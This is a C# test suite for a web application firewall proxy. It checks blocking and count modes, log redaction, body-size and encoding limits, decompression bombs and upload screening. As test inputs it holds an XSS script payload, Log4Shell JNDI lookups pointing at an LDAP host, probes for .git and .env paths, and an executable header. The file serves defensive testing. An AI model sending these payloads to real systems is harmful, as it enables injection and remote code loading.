using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using Bulwark.Core;
using Bulwark.Core.Control;
using Bulwark.Proxy.Firewall;
using Bulwark.Proxy.Firewall.Rules;
using Bulwark.Testing;
using Microsoft.AspNetCore.Http;

namespace Bulwark.Proxy.Tests.Firewall;

/// <summary>The firewall in front of a site, over sockets.</summary>
[Collection(nameof(RequestFirewall.Memory))]
public sealed class FirewallTests
{
    private const string Attack = "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pin=s3cr3tPlanted";
    private static readonly ControlPeer Operator = new(1, 2, 3);

    [Fact]
    public async Task Counts_an_attack_and_writes_a_line_without_a_value()
    {
        await using var site = await FirewalledSite.StartAsync();

        Assert.Equal(200, await site.SendAsync("GET", Attack));

        var line = Assert.Single(await site.LogAsync());
        Assert.Equal("count", (string?)line["action"]);
        Assert.Equal("/search", (string?)line["path"]);
        var match = line["matches"]!.AsArray().First(one => (string?)one!["group"] == "core")!;
        Assert.Equal("block", (string?)match["configured"]);
        Assert.Equal("count", (string?)match["action"]);
        Assert.NotEmpty(match["variables"]!.AsArray());
        var text = await File.ReadAllTextAsync(site.LogFile, TestContext.Current.CancellationToken);
        foreach (var secret in new[] { "alert", "script>", "s3cr3tPlanted", "127.0.0.1" })
            Assert.DoesNotContain(secret, text, StringComparison.OrdinalIgnoreCase);

        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(site.LogFile));
    }

    /// <summary>Whatever a client may name as it likes: letters alone, which look like a word.</summary>
    [Fact]
    public async Task A_line_holds_no_name_that_a_client_made_up()
    {
        await using var site = await FirewalledSite.StartAsync();
        var planted = new List<string>();
        const string Evil = "%3Cscript%3Ealert(1)%3C/script%3E";
        const string EvilJson = "<script>alert(1)</script>";

        await site.SendAsync("GET", $"/files/{Token()}/.env.{Token()}?{Token()}={Evil}");
        await site.SendAsync(Token().ToUpperInvariant(), $"/_matrix/client/v3/{Token()}?{Token()}={Evil}");
        await site.SendAsync("POST", "/_matrix/client/v3/search", Json($$$"""{"{{{Token()}}}":{"{{{Token()}}}":"{{{EvilJson}}}"}}"""));
        await site.SendAsync("POST", "/v1/graphql", Json($$$"""{"query":"query {{{Token()}}} {a}","variables":{"{{{Token()}}}":"{{{EvilJson}}}"}}"""));
        await site.SendAsync("POST", "/oauth2/token", new StringContent($"{Token()}={Evil}", Encoding.UTF8, "application/x-www-form-urlencoded"));
        await site.SendAsync("POST", "/anything", new MultipartFormDataContent($"{Token()}") { { new StringContent(EvilJson), Token() }, { new StringContent(EvilJson), Token(), $"{Token()}.php" } });
        using var answer = await site.AskAsync("GET", $"/?q={Evil}", prepare: request =>
        {
            request.Headers.TryAddWithoutValidation(Token(), EvilJson);
            request.Headers.TryAddWithoutValidation("Cookie", $"{Token()}={Evil}");
        });

        await site.LogAsync(7);
        var text = await File.ReadAllTextAsync(site.LogFile, TestContext.Current.CancellationToken);
        Assert.DoesNotContain(planted, token => text.Contains(token, StringComparison.OrdinalIgnoreCase));
        Assert.Equal(17, planted.Count);

        string Token()
        {
            planted.Add(RandomNumberGenerator.GetString("abcdefghijklmnopqrstuvwxyz", 22));
            return planted[^1];
        }
    }

    [Fact]
    public async Task Blocks_as_soon_as_the_group_is_set_to_block_and_counts_as_soon_as_it_is_set_back()
    {
        await using var site = await FirewalledSite.StartAsync();

        site.Rules.SetMode("core", FirewallMode.Block, Operator);
        Assert.Equal(403, await site.SendAsync("GET", Attack));
        Assert.Equal(0, site.Served);

        site.Rules.SetMode("core", FirewallMode.Count, Operator);
        Assert.Equal(200, await site.SendAsync("GET", Attack));

        var lines = await site.LogAsync(2);
        Assert.Equal("block", (string?)lines[0]["action"]);
        Assert.Equal("count", (string?)lines[1]["action"]);
    }

    [Fact]
    public async Task A_mode_outlives_new_certificates_but_not_new_settings()
    {
        await using var site = await FirewalledSite.StartAsync();
        await using var next = await FirewalledSite.StartAsync();
        var set = site.Rules.SetMode("core", FirewallMode.Block, Operator);

        Assert.Equal((FirewallMode.Block, FirewallMode.Count, 2), (set!.Live, set.Declared, set.SetByUserId));
        Assert.Null(site.Rules.SetMode("cores", FirewallMode.Block, Operator));
        Assert.Equal(FirewallMode.Count, next.Rules.Groups().Single(group => group.Name == "core").Live);

        next.Rules.KeepModes(site.Rules);
        Assert.Equal(FirewallMode.Block, next.Rules.Groups().Single(group => group.Name == "core").Live);
    }

    [Theory]
    [InlineData("/.git/config", 404)]
    [InlineData("/actuator/env", 404)]
    [InlineData("/_matrix/client/versions", 200)]
    [InlineData("/", 200)]
    public async Task Paths_of_administration_are_not_there(string path, int status)
    {
        await using var site = await FirewalledSite.StartAsync();

        Assert.Equal(status, await site.SendAsync("GET", path));
    }

    [Fact]
    public async Task Refuses_in_the_words_of_the_protocol_and_lets_browsers_read_it()
    {
        await using var site = await FirewalledSite.StartAsync(options => options.Groups.Core = FirewallMode.Block);

        using var answer = await site.AskAsync("GET", "/_matrix/client/v3/publicRooms?server=%3Cscript%3Ealert(1)%3C%2Fscript%3E");

        Assert.Equal(HttpStatusCode.Forbidden, answer.StatusCode);
        Assert.Equal("*", answer.Headers.GetValues("Access-Control-Allow-Origin").Single());
        Assert.Equal("""{"errcode":"M_FORBIDDEN","error":"Access denied"}""", await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
    }

    [Fact]
    public async Task A_body_reaches_the_site_as_it_was_and_an_attack_in_it_does_not()
    {
        await using var site = await FirewalledSite.StartAsync(options => options.Groups.KnownBadInputs = FirewallMode.Block);
        var good = $$"""{"msgtype":"m.text","body":"{{new string('x', 100_000)}}"}""";

        Assert.Equal(200, await site.SendAsync("PUT", "/_matrix/client/v3/profile/x/displayname", Json(good)));
        Assert.Equal(good, Encoding.UTF8.GetString(site.Received!));
        Assert.Equal(403, await site.SendAsync("PUT", "/_matrix/client/v3/profile/x/displayname", Json("""{"displayname":"${jndi:ldap://192.0.2.1/a}"}""")));
        Assert.Equal(403, await site.SendAsync("PUT", "/_matrix/client/v3/profile/x/displayname", new ByteArrayContent("""{"displayname":"\u0024{jndi:ldap://192.0.2.1/a}"}"""u8.ToArray())));
        Assert.Equal(1, site.Served);
        Assert.Equal(0, RequestFirewall.Memory.Held);
    }

    [Theory]
    [InlineData(FirewallOversize.Refuse, 413, "block")]
    [InlineData(FirewallOversize.Count, 200, "count")]
    public async Task A_body_beyond_the_limit_is_refused_or_counted(FirewallOversize oversize, int status, string action)
    {
        await using var site = await FirewalledSite.StartAsync(options => (options.BodyBytes, options.Oversize) = (20_000, oversize));
        var body = Encoding.ASCII.GetBytes(new string('x', 60_000));

        Assert.Equal(status, await site.SendAsync("POST", "/anything", new ByteArrayContent(body)));
        using var chunked = new StreamContent(new ChunkedBytes(body));
        Assert.Equal(status, await site.SendAsync("POST", "/anything", chunked));

        Assert.Contains(await site.LogAsync(2), line => (string?)line["reason"] == "oversize" && (string?)line["action"] == action);
        if (status == 200)
            Assert.Equal(body, site.Received);
        else
            Assert.Equal(0, site.Served);
    }

    [Theory]
    [InlineData("application/json; charset=utf-7", 415)]
    [InlineData("application/json; charset=\"UTF-16\"", 415)]
    [InlineData("application/json; charset*=utf-8''utf-16", 415)]
    [InlineData("application/json; charset=utf-8; charset=utf-16", 415)]
    [InlineData("application/json; charset=\"utf-8\"", 200)]
    [InlineData("application/json;charset=US-ASCII", 200)]
    [InlineData("text/plain, application/json", 400)]
    [InlineData("multipart/form-data; boundary=\"a;charset=x,y\"", 200)]
    public async Task A_body_that_could_be_read_otherwise_is_refused(string type, int status)
    {
        await using var site = await FirewalledSite.StartAsync();
        using var content = new ByteArrayContent("{}"u8.ToArray());
        content.Headers.TryAddWithoutValidation("Content-Type", type);

        Assert.Equal(status, await site.SendAsync("POST", "/anything", content));
    }

    [Theory]
    [InlineData("gzip", 403)]
    [InlineData("deflate", 403)]
    [InlineData("br", 403)]
    [InlineData("identity", 403)]
    [InlineData("zstd", 415)]
    [InlineData("gzip, gzip", 415)]
    public async Task A_coded_body_is_decoded_before_it_is_judged(string coding, int status)
    {
        await using var site = await FirewalledSite.StartAsync(options => options.Groups.KnownBadInputs = FirewallMode.Block);
        using var content = Coded("""{"a":"${jndi:ldap://192.0.2.1/a}"}"""u8, coding);

        Assert.Equal(status, await site.SendAsync("POST", "/anything", content));
        Assert.Equal(0, site.Served);
    }

    [Theory]
    [InlineData("gzip")]
    [InlineData("deflate")]
    [InlineData("br")]
    public async Task The_site_gets_a_coded_body_as_the_rules_have_seen_it(string coding)
    {
        await using var site = await FirewalledSite.StartAsync(options => (options.Groups.MatrixSanity, options.Groups.Core) = (FirewallMode.Block, FirewallMode.Block));
        IHeaderDictionary headers = new HeaderDictionary();
        site.Serve = async context =>
        {
            foreach (var (name, value) in context.Request.Headers)
                headers[name] = value;

            using var body = new MemoryStream();
            await context.Request.Body.CopyToAsync(body, context.RequestAborted);
            headers["body"] = Encoding.UTF8.GetString(body.ToArray());
        };
        using var good = Coded("""{"displayname":"Zoë"}"""u8, coding);
        using var bad = Coded("""["displayname"]"""u8, coding);

        Assert.Equal(200, await site.SendAsync("PUT", "/_matrix/client/v3/profile/x/displayname", good));
        Assert.Equal(403, await site.SendAsync("PUT", "/_matrix/client/v3/profile/x/displayname", bad));

        Assert.Equal("""{"displayname":"Zoë"}""", headers["body"]);
        Assert.Equal("22", headers.ContentLength?.ToString(CultureInfo.InvariantCulture));
        Assert.False(headers.ContainsKey("Content-Encoding"));
        Assert.Equal(0, RequestFirewall.Memory.Held);
    }

    [Theory]
    [InlineData("gzip")]
    [InlineData("deflate")]
    [InlineData("br")]
    public async Task What_a_body_unfolds_to_is_limited_too(string coding)
    {
        await using var site = await FirewalledSite.StartAsync();
        using var bomb = Coded(new byte[50_000_000], coding);
        using var broken = new ByteArrayContent("""{"a":1}"""u8.ToArray()) { Headers = { { "Content-Encoding", coding } } };

        Assert.Equal(413, await site.SendAsync("POST", "/anything", bomb));
        Assert.Equal(415, await site.SendAsync("POST", "/anything", broken));
        Assert.Equal(0, RequestFirewall.Memory.Held);
    }

    [Fact]
    public async Task An_upload_is_streamed_and_looked_at_where_it_begins()
    {
        await using var site = await FirewalledSite.StartAsync(options => options.Groups.Core = FirewallMode.Block);
        var image = new byte[3_000_000];
        "\x89PNG\r\n"u8.CopyTo(image);

        Assert.Equal(200, await site.SendAsync("POST", "/_matrix/media/v3/upload?filename=cat.png", Media(image)));
        Assert.Equal(image, site.Received);
        Assert.Equal(403, await site.SendAsync("POST", "/_matrix/media/v3/upload?filename=cat.png", Media("MZ program"u8.ToArray())));
        Assert.Equal(403, await site.SendAsync("POST", "/_matrix/media/v3/upload?filename=%3Cscript%3Ealert(1)%3C%2Fscript%3E", Media(image)));
    }

    [Theory]
    [InlineData("image/png, text/html", null, 400)]
    [InlineData("image/png", "zstd", 415)]
    [InlineData("image/png", "gzip", 415)]
    [InlineData("image/png", "identity", 200)]
    [InlineData("text/plain; charset=iso-8859-1", null, 200)]
    public async Task An_upload_is_no_way_around_what_a_body_must_be(string type, string? coding, int status)
    {
        await using var site = await FirewalledSite.StartAsync();
        using var content = new ByteArrayContent("\x89PNG"u8.ToArray());
        content.Headers.TryAddWithoutValidation("Content-Type", type);
        if (coding is not null)
            content.Headers.TryAddWithoutValidation("Content-Encoding", coding);

        Assert.Equal(status, await site.SendAsync("POST", "/_matrix/media/v3/upload", content));
    }

    [Fact]
    public void Rules_that_do_not_load_are_told_with_their_places()
    {
        using var directory = new TemporaryDirectory();
        var rules = Path.Combine(directory.Path, "own.conf");
        File.WriteAllText(rules, "SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\nSecRule ARGS \"@nothing a\" \"id:2\"\n");

        var e = Assert.Throws<OperatorException>(() => RuleSetShelf.OfProcess.Load(new CoreRuleSetOptions { Folder = directory.Path }, isLocal: false, TimeProvider.System));

        Assert.StartsWith("The rules of the firewall do not load:\n" + rules + ":2", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Rules_are_read_again_only_when_their_files_have_changed()
    {
        using var directory = new TemporaryDirectory();
        var rules = Path.Combine(directory.Path, "own.conf");
        File.WriteAllText(rules, "SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\n");
        var shelf = new RuleSetShelf();
        var options = new CoreRuleSetOptions { Folder = directory.Path };

        var first = shelf.Load(options, isLocal: false, TimeProvider.System);
        Assert.Same(first, shelf.Load(options with { }, isLocal: false, TimeProvider.System));

        File.AppendAllText(rules, "SecRule ARGS \"@rx b\" \"id:2,phase:2,deny\"\n");
        Assert.NotSame(first, shelf.Load(options, isLocal: false, TimeProvider.System));
        Assert.NotSame(first, shelf.Load(options with { Paranoia = 2 }, isLocal: false, TimeProvider.System));
        GC.KeepAlive(first);
    }

    private static StringContent Json(string text) => new(text, Encoding.UTF8, "application/json");

    private static ByteArrayContent Media(byte[] bytes) => new(bytes) { Headers = { ContentType = new MediaTypeHeaderValue("image/png") } };

    private static ByteArrayContent Coded(ReadOnlySpan<byte> body, string coding)
    {
        using var coded = new MemoryStream();
        using (Stream coder = coding switch
        {
            "gzip" => new System.IO.Compression.GZipStream(coded, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true),
            "deflate" => new System.IO.Compression.ZLibStream(coded, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true),
            "br" => new System.IO.Compression.BrotliStream(coded, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true),
            _ => new BufferedStream(coded),
        })
        {
            coder.Write(body);
            coder.Flush();
            var content = coding is "gzip" or "deflate" or "br" ? null : new ByteArrayContent(coded.ToArray());
            if (content is not null)
            {
                content.Headers.TryAddWithoutValidation("Content-Encoding", coding);
                return content;
            }
        }

        return new ByteArrayContent(coded.ToArray()) { Headers = { { "Content-Encoding", coding } } };
    }
}
